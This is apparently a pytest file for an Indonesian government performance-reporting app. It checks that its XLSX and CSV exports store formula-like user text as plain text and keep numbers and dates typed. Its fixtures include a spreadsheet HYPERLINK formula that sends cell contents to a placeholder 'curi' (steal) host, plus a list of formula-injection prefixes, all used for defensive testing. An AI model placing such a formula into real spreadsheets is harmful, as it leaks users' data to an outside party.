"""Export safety (issue 14) and numeric cells (issue 19) through the one cell writer
`kinerja.pertukaran.sel.isi_sel`: user text that looks like a formula comes back as text from
every XLSX writer, figures come back as numbers, dates as dates."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from kinerja import angka as fmt
from kinerja.laporan.tabel import Tabel
from kinerja.lkip.dokumen import BlokTabel, Dokumen
from kinerja.lkip.xlsx import tulis_xlsx
from kinerja.pertukaran import ekspor
from kinerja.pertukaran.sel import aman_csv, isi_sel, tambah_baris
from tests import pabrik

JAHAT = '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik")'
AWALAN = [JAHAT, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _sel_teks(wb, teks: str):
    """Every cell of the workbook whose value is `teks`, with its type."""
    return [c for ws in wb.worksheets for baris in ws.iter_rows() for c in baris if c.value == teks]


def _muat(isi) -> Workbook:
    return load_workbook(io.BytesIO(isi) if isinstance(isi, bytes) else isi)


def test_isi_sel_teks_berbahaya_tetap_teks(tmp_path):
    wb = Workbook()
    ws = wb.active
    for s in AWALAN:
        tambah_baris(ws, [s, fmt.persen(Decimal("93.5678")), dt.date(2026, 12, 7)])
    tujuan = tmp_path / "a.xlsx"
    wb.save(tujuan)
    ws = load_workbook(tujuan).active
    for i, s in enumerate(AWALAN, start=1):
        teks, persen, tanggal = (
            ws.cell(row=i, column=1),
            ws.cell(row=i, column=2),
            ws.cell(row=i, column=3),
        )
        assert teks.value == s and teks.data_type == "s" and teks.quotePrefix
        assert persen.data_type == "n" and persen.value == pytest.approx(93.57)
        assert persen.number_format == '#,##0.00"%"'
        assert tanggal.is_date and tanggal.value.date() == dt.date(2026, 12, 7)


def test_isi_sel_angka_dan_waktu():
    wb = Workbook()
    ws = wb.active
    isi_sel(ws["A1"], fmt.rupiah(Decimal("746367815588")))
    isi_sel(ws["A2"], 1234)
    isi_sel(ws["A3"], dt.datetime(2026, 12, 7, 2, 44, tzinfo=dt.UTC))
    isi_sel(ws["A4"], fmt.angka(Decimal("97.4649"), 2))
    assert ws["A1"].value == Decimal("746367815588") and ws["A1"].number_format == '"Rp"#,##0'
    assert ws["A2"].number_format == "#,##0"
    assert ws["A3"].value == dt.datetime(2026, 12, 7, 9, 44)  # Asia/Jakarta, naive for Excel
    assert ws["A4"].value == Decimal("97.46") and ws["A4"].number_format == "#,##0.00"


def test_aman_csv():
    assert [aman_csv(s) for s in AWALAN] == ["'" + s for s in AWALAN]
    assert aman_csv("Budi") == "Budi" and aman_csv(None) == "" and aman_csv(12) == "12"


def test_lkip_xlsx_label_berbahaya_teks(tmp_path):
    t = Tabel("Uji", ["Indikator", "Capaian"])
    t.tambah(JAHAT, fmt.angka(Decimal("93.57"), 2))
    t.tambah("Jumlah", 3)
    t.catatan.append("@catatan")
    dok = Dokumen(organisasi=None, tahun=2025, blok=[BlokTabel(t, nomor=1)])
    wb = _muat(tulis_xlsx(dok, tmp_path / "lkip.xlsx"))
    ws = wb.worksheets[0]
    assert ws["A3"].value == JAHAT and ws["A3"].data_type == "s"
    assert ws["B3"].value == pytest.approx(93.57) and ws["B3"].data_type == "n"
    assert ws["B4"].value == 3 and ws["A5"].value == "@catatan" and ws["A5"].data_type == "s"


@pytest.mark.django_db
def test_ekspor_pertukaran_nama_indikator_berbahaya_teks():
    p = pabrik.pohon_kecil()
    pabrik.indikator_pk(p["kel_a"], target="90", nama=JAHAT, kode="1.1")
    for isi in (
        ekspor.templat_realisasi(p["kel_a"], 2024),
        ekspor.templat_target(p["kel_a"], 2024, dengan_draf=True),
        ekspor.buku_ekspor(p["kel_a"], 2024, dengan_draf=True),
    ):
        sel = _sel_teks(_muat(isi), JAHAT)
        assert sel and all(c.data_type == "s" for c in sel)


def test_reviu_xlsx_lokasi_berbahaya_teks():
    from kinerja.reviu.dokumen import Temuan
    from kinerja.reviu.keluaran import xlsx_bytes

    t = Temuan(
        aturan="capaian", nama_aturan="Capaian", lokasi=JAHAT, bab="BAB III", halaman=None,
        terbit="93,93", hitung="94,00", rumus="-1 + 2",
    )  # fmt: skip
    ws = _muat(xlsx_bytes([t])).active
    assert ws["C3"].value == JAHAT and ws["C3"].data_type == "s"
    assert ws["G3"].value == "-1 + 2" and ws["G3"].data_type == "s"
    assert ws["A3"].value == 1 and ws["A3"].data_type == "n"
